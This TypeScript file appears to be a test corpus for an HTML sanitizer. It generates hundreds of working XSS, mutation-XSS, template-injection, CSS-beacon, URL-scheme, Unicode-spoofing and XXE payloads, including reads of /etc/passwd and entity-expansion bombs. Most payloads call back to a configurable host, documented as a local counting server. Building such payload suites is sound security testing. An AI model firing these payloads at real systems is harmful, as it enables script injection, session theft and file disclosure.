/** What strangers write into texts to get at those who read them. */
export type PayloadClass =
  | 'HTML'
  | 'attribute'
  | 'SVG'
  | 'MathML'
  | 'mutation'
  | 'template'
  | 'CSS'
  | 'URL scheme'
  | 'Unicode'
  | 'XML entity'

type Place = {
  /** A server that counts: `127.0.0.1:4711`. */
  host: string
  /** Asks that server, opens a dialog, and takes the window elsewhere; without double quotes. */
  script: string
}
type Make = (place: Place) => string[]

const html: Make = ({ host, script }) => [
  `<script>${script}</script>`,
  `<SCRIPT>${script}</SCRIPT>`,
  `<script src="http://${host}/1.js"></script>`,
  `<script type="module" src="http://${host}/2.js"></script>`,
  `<script async defer src=//${host}/3.js>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script\n>${script}</script\n>`,
  `<script/x>${script}</script>`,
  `<<script>${script}//<</script>`,
  `</title></textarea></style><script>${script}</script>`,
  `<iframe src="http://${host}/4"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<object data="http://${host}/5"></object>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="http://${host}/6">`,
  `<applet code="http://${host}/7"></applet>`,
  `<frameset><frame src="http://${host}/8"></frameset>`,
  `<portal src="http://${host}/9"></portal>`,
  `<base href="http://${host}/10/"><img src="x.gif">`,
  `<meta http-equiv="refresh" content="0;url=http://${host}/11">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<meta http-equiv="set-cookie" content="callboard=1">`,
  `<link rel="stylesheet" href="http://${host}/12.css">`,
  `<link rel="prefetch" href="http://${host}/13"><link rel="prerender" href="http://${host}/14">`,
  `<link rel="preload" as="image" href="http://${host}/15">`,
  `<link rel="manifest" href="http://${host}/16"><link rel="icon" href="http://${host}/17">`,
  `<video src="http://${host}/18" poster="http://${host}/19" autoplay></video>`,
  `<audio src="http://${host}/20" autoplay></audio>`,
  `<picture><source srcset="http://${host}/21"><img></picture>`,
  `<img src="http://${host}/22"><img srcset="http://${host}/23 1x">`,
  `<table background="http://${host}/24"><tr><td background="http://${host}/25">x</table>`,
  `<body background="http://${host}/26" onload="${script}">`,
  `<form action="http://${host}/27"><button autofocus>Go on</button></form>`,
  `<form id="f" action="http://${host}/28"></form><button form="f">Sign in</button>`,
  `<isindex action="http://${host}/29" type="image">`,
  `<a href="http://${host}/30" target="_top" style="font-size:60px">Click here to read</a>`,
  `<a href="http://${host}/31" ping="http://${host}/32" style="font-size:60px">Read on</a>`,
  `<a href="http://${host}/33" download style="font-size:60px">Invoice</a>`,
  `<dialog open><a href="http://${host}/34">Session expired</a></dialog>`,
  `<noscript><img src="http://${host}/35"></noscript>`,
  `<plaintext><script>${script}</script>`,
  `<xmp><script>${script}</script></xmp><img src=x onerror="${script}">`,
  `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
  `<?xml-stylesheet href="http://${host}/36"?><script>${script}</script>`,
]

const handlers =
  'onerror onload onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onwheel oncut onbeforetoggle'

const attribute: Make = ({ host, script }) => [
  ...handlers.split(' ').map((name) => `<b ${name}="${script}" tabindex=1 autofocus>${name}</b>`),
  `<img src=x onerror="${script}">`,
  `<img/src=x/onerror="${script}">`,
  `<img src=x OnErRoR="${script}">`,
  `<img src=x onerror\n=\n"${script}">`,
  `"><img src=x onerror="${script}">`,
  `'><img src=x onerror="${script}">`,
  `\`><img src=x onerror="${script}">`,
  `x" onmouseover="${script}" autofocus onfocus="${script}" y="`,
  `x' onmouseover='alert(1)' y='`,
  `<img alt="\`><script>${script}</script>" src=x>`,
  `<input autofocus onfocus="${script}">`,
  `<details open ontoggle="${script}"><summary>x</summary></details>`,
  `<marquee onstart="${script}">x</marquee>`,
  `<b contenteditable onblur="${script}">x</b>`,
  `<a href="#" onclick="${script}" style="font-size:60px">here</a>`,
  `<img src="data:image/svg+xml,<svg onload='${script.replaceAll("'", '&apos;')}'/>">`,
  `<b id="location" name="cookie">x</b><form name="body"><input name="attributes"></form>`,
  `<img name="getElementById"><a id="defaultView" name="top" href="http://${host}/40">x</a>`,
  `<b is="x-y" slot="a" part="b" style="x" class="mantine-Button-root">x</b>`,
  `<td lowsrc="http://${host}/41" dynsrc="http://${host}/42">x</td>`,
]

const svg: Make = ({ host, script }) => [
  `<svg onload="${script}"></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script href="http://${host}/50"></script></svg>`,
  `<svg><script xlink:href="http://${host}/51"/></svg>`,
  `<svg><image href="http://${host}/52"/></svg>`,
  `<svg><use href="http://${host}/53#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text y="40" font-size="40">here</text></a></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${script}"/><text y="40">x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${script}"/></svg>`,
  `<svg><foreignObject><iframe src="http://${host}/54"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><img src=x onerror="${script}"></foreignObject></svg>`,
  `<svg><style>*{background:url(http://${host}/55)}</style></svg>`,
  `<svg><filter id=f><feImage href="http://${host}/56"/></filter><rect filter="url(#f)"/></svg>`,
  `<svg><title><script>${script}</script></title></svg>`,
  `<svg><desc><img src=x onerror="${script}"></desc></svg>`,
  `<svg/onload="${script}">`,
  `<svg><handler type="text/javascript" ev:event="load">${script}</handler></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`,
  `<svg><discard onbegin="${script}"/></svg>`,
]

const mathml: Make = ({ host, script }) => [
  `<math href="javascript:${script}">click</math>`,
  `<math><mi xlink:href="javascript:${script}">click</mi></math>`,
  `<math><maction actiontype="statusline#http://${host}/60" xlink:href="javascript:${script}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${script}"></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><script>${script}</script></annotation-xml></math>`,
  `<math><mtext><img src=x onerror="${script}"></mtext></math>`,
  `<math><mtext><iframe src="http://${host}/61"></iframe></mtext></math>`,
  `<math><mglyph src="http://${host}/62"/></math>`,
  `<math><semantics><annotation src="http://${host}/63"/></semantics></math>`,
  `<math><mstyle style="background:url(http://${host}/64)"><mi>x</mi></mstyle></math>`,
  `<math><ms><script>${script}</script></ms></math>`,
  `<math><style><img src=x onerror="${script}"></style></math>`,
]

const mutation: Make = ({ script }) => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror="${script}"></style></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${script}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${script}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${script}>">`,
  `<noframes><p id="</noframes><img src=x onerror=${script}>">`,
  `<title><p id="</title><img src=x onerror=${script}>">`,
  `<textarea><p id="</textarea><img src=x onerror=${script}>">`,
  `<xmp><p id="</xmp><img src=x onerror=${script}>">`,
  `<iframe><p id="</iframe><img src=x onerror=${script}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${script}>">`,
  `<select><iframe></select><img src=x onerror="${script}">`,
  `<table><td><svg><desc><td></desc></svg></td><img src=x onerror="${script}"></table>`,
  `<a><table><a><img src=x onerror="${script}"></a></table></a>`,
  `<p><b><p></b><svg><style><img src=x onerror="${script}"></style></svg></p>`,
  `<!--><img src=x onerror="${script}">-->`,
  `<!--><!--->--!><img src=x onerror="${script}">`,
  `<![CDATA[<img src=x onerror="${script}">]]>`,
  `<svg><![CDATA[><img src=x onerror="${script}">]]></svg>`,
  `<!DOCTYPE x [<!ENTITY y "><img src=x onerror=${script}>">]>`,
  `<?php echo '<img src=x onerror="${script}">' ?>`,
  `<img src="x\`\`onerror=${script}">`,
  `<listing>&lt;img src=x onerror="${script}"&gt;</listing>`,
  `&lt;img src=x onerror="${script}"&gt;`,
  `&amp;lt;img src=x onerror="${script}"&amp;gt;`,
]

const template: Make = ({ script }) => [
  `{{constructor.constructor('${script.replaceAll("'", '"')}')()}}`,
  `\${alert(1)}`,
  `#{alert(1)}`,
  `<%= alert(1) %>`,
  `{%raw%}<script>${script}</script>{%endraw%}`,
  `<template><script>${script}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${script}"></template>`,
  `<b><template shadowrootmode="open"><slot onslotchange="${script}"></slot></template>x</b>`,
  `<x-y><template shadowrootmode="closed"><iframe src="javascript:${script}"></iframe></template></x-y>`,
  `<div v-html="'<img src=x onerror=alert(1)>'" ng-app ng-init="constructor.constructor('alert(1)')()"></div>`,
  `<div data-bind="html: '<img src=x onerror=alert(1)>'" x-init="${script}"></div>`,
  `[[\${7*7}]] __proto__[innerHTML]=<img src=x onerror=alert(1)>`,
  `{"__html":"<img src=x onerror=alert(1)>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"alert(1)"}}`,
]

const css: Make = ({ host, script }) => [
  `<style>@import "http://${host}/70";</style>`,
  `<style>@import url(//${host}/71);body{background:url(http://${host}/72)}</style>`,
  `<style>@font-face{font-family:x;src:url(http://${host}/73)}*{font-family:x}</style>`,
  `<style>*{animation:x 1s}@keyframes x{to{background:url(http://${host}/74)}}</style>`,
  `<style>input[value^=a]{background:image-set("http://${host}/75" 1x)}</style><input value=abc>`,
  `<p style="background:url(http://${host}/76)">x</p>`,
  `<p style="background:URL( 'http://${host}/77' )">x</p>`,
  `<p style="background:\\75\\72\\6c(http://${host}/78)">x</p>`,
  `<p style="background:u/**/rl(http://${host}/79)">x</p>`,
  `<p style="background-image:image-set('http://${host}/80' 1x)">x</p>`,
  `<p style="list-style:url(http://${host}/81) inside;display:list-item">x</p>`,
  `<p style="cursor:url(http://${host}/82),auto">x</p>`,
  `<p style="border-image:url(http://${host}/83) 1">x</p>`,
  `<p style="mask:url(http://${host}/84);-webkit-mask-image:url(http://${host}/85)">x</p>`,
  `<p style="content:url(http://${host}/86);filter:url(http://${host}/87#x)">x</p>`,
  `<p style="width:expression(${script});behavior:url(http://${host}/88)">x</p>`,
  `<p style="-moz-binding:url(http://${host}/89#x)">x</p>`,
  `<p style="--x:url(http://${host}/90);background:var(--x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended</p>`,
  `<p style="color:red&quot;><script>${script}</script>">x</p>`,
  `<p style="font-family:'</style><script>${script}</script>'">x</p>`,
]

const schemes =
  'javascript JaVaScRiPt vbscript data view-source file blob filesystem about chrome ms-settings intent'

const urlSchemes: Make = ({ host, script }) => [
  ...schemes.split(' ').map((scheme) => `${scheme}:${script}`),
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  ` javascript:${script}`,
  `\u0001javascript:${script}`,
  `javascript://${host}/%0a${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<a href="javascript:${script}" style="font-size:60px">here</a>`,
  `<a href="jav&#x09;ascript:${script}" style="font-size:60px">here</a>`,
  `<a href="&#14; javascript:${script}" style="font-size:60px">here</a>`,
  `<a href="data:text/html,<script>${script.replaceAll("'", '&apos;')}</script>" style="font-size:60px">here</a>`,
  `<a href="//${host}/91" style="font-size:60px">here</a>`,
  `<a href="\\\\${host}\\92" style="font-size:60px">here</a>`,
  `<a href="http:${host}/93" style="font-size:60px">here</a>`,
  `<a href="http://bank.example@${host}/94" style="font-size:60px">http://bank.example</a>`,
  `//${host}/95`,
  `\\\\${host}\\96`,
  `https:\\\\${host}\\97`,
]

const unicode: Make = ({ script }) => [
  `\u202Egnp.exe\u202C`,
  `\u202E\u2066\u2067\u2068 turned around`,
  `\u2069\u2069\u2069\u202C\u202C closing what was not opened`,
  `\u200F\u200Erevo\u061C`,
  `a${'\u0301'.repeat(500)} stacked`,
  `Z${'\u0351\u0300\u0315\u0321\u0489'.repeat(60)}algo`,
  `\u0E01${'\u0E49'.repeat(200)}`,
  `\u0F40${'\u0F71\u0F72\u0F74'.repeat(80)}`,
  `\uFDFD\uFDFD\uFDFD \u{12031} \uA9C5 \u2E3B wide and high`,
  `${'\u200B'.repeat(200)}invisible${'\u2063'.repeat(100)}`,
  `${'\n'.repeat(60)}below the fold`,
  `\u2028\u2029line\u0085breaks\u000B`,
  `\uFF1Cscript\uFF1E${script}\uFF1C/script\uFF1E`,
  `\u02BA\u02C3<img src=x onerror="${script}">`,
  `\u{1F468}\u200D${'\u{1F469}\u200D'.repeat(100)}\u{1F467}`,
  `b\u0430nk.example \u0455\u0435cur\u0435`,
  `\u3164\u115F\uFFA0blank`,
  `\uFEFF<script>${script}</script>`,
  `\u180E\u00AD\u034Fsoft`,
  `${'W'.repeat(3000)}`,
  `\u06DD\u0600\u0605 \u064B\u064C\u064D${'\u0670'.repeat(99)}`,
  `\u202A<b onclick="${script}">\u202B`,
]

const xml: Make = ({ host, script }) => [
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><eventData><body html="true">&e;</body></eventData>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "http://${host}/98">]><eventData><body html="true">&e;</body></eventData>`,
  `<!DOCTYPE x SYSTEM "http://${host}/99.dtd"><eventData/>`,
  `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://${host}/100"> %p;]><eventData/>`,
  `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]><eventData><body html="true">&c;</body></eventData>`,
  `<eventData><body html="true">&undefined;</body></eventData>`,
  `<eventData><body html="true"><script>${script}</script></body></eventData>`,
  `<eventData><body html="true">&lt;script>${script}&lt;/script></body></eventData>`,
  `<eventData><body html="true"><![CDATA[<img src=x onerror="${script}">]]></body></eventData>`,
  `<eventData><body html="true">]]&gt;&lt;img src=x onerror="${script}"&gt;</body></eventData>`,
  `<eventData xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://${host}/101"/></eventData>`,
  `<?xml-stylesheet type="text/xsl" href="http://${host}/102"?><eventData/>`,
  `<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
  `<eventData><urls><url><urlPath>javascript:${script}</urlPath><displayName>x</displayName></url></urls></eventData>`,
  `</body></eventData><script>${script}</script>`,
  `]]></body></eventData><img src=x onerror="${script}">`,
  `<eventData><body html="true">&#x3C;iframe src="http://${host}/103"&#x3E;</body></eventData>`,
  `<eventData><body html="tru&#101;">&#60;script&#62;${script}&#60;/script&#62;</body></eventData>`,
]

const classes: Record<PayloadClass, Make> = {
  HTML: html,
  attribute,
  SVG: svg,
  MathML: mathml,
  mutation,
  template,
  CSS: css,
  'URL scheme': urlSchemes,
  Unicode: unicode,
  'XML entity': xml,
}

/** Each with its class; whatever one of them achieves is heard by the server at `host`. */
export function hostilePayloads(host: string): { kind: PayloadClass; text: string }[] {
  const script = `new Image().src='http://${host}/ran';alert(1);top.location='http://${host}/gone'`
  // The table's own keys are the classes.
  return (Object.keys(classes) as PayloadClass[]).flatMap((kind) =>
    classes[kind]({ host, script }).map((text) => ({ kind, text })),
  )
}
